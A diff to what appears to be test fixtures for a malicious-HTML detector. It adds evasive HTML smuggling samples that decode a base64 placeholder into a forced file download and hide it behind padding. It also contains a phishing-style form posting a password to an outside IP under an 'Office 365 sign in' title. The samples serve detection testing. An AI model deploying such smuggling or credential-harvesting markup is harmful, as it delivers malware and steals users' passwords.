@@ -117,7 +117,9 @@ SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
     ),
     "html_smuggles_file": (
         [b"<html><script>var d=atob('" + B64 + b"');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script>"],
-        [b"<html><script>a.href=URL.createObjectURL(new Blob([csv]));a.download='t.csv';a.click()</script>"],
+        [b"<html><script>a.href=URL.createObjectURL(new Blob([csv]));a.download='t.csv';a.click()</script>",
+         b"(function(){var d=atob('" + B64 + b"');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x';a.click()})();" + bytes(5000) + b"<svg>",
+         b"<html><script>atob(x)" + b" " * 9000 + b"new Blob([d]);URL.createObjectURL(b);a.download='x';a.click();f='" + B64 + b"'</script>"],
     ),
     "html_password_form_to_elsewhere": (
         [b'<form action="http://203.0.113.7/x"><input name=p type="password">', b'<title>Office 365 sign in</title><form action="next.php"><input type=password>'],
